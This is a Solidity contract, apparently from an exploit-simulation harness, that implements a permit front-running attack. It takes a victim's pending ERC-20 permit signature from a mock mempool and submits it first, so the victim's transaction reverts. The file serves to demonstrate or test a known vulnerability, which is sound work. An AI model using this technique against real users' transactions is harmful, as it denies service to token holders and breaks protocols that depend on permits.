// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/IERC20Permit.sol";
import {Exploit, Scene} from "../Exploit.sol";
import {Mempool} from "./Mempool.sol";

/// @title A permit that is used before its owner's transaction
/// @notice Takes the signature out of the mempool and carries it to the token itself, so that the victim's call reverts.
contract PermitFrontRun is Exploit {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number != 1) return;
        Mempool.Pending memory seen = Mempool(others[0]).pendingPermit();
        IERC20Permit(address(vault)).permit(
            seen.owner,
            seen.spender,
            seen.value,
            seen.permit.deadline,
            seen.permit.v,
            seen.permit.r,
            seen.permit.s
        );
    }
}
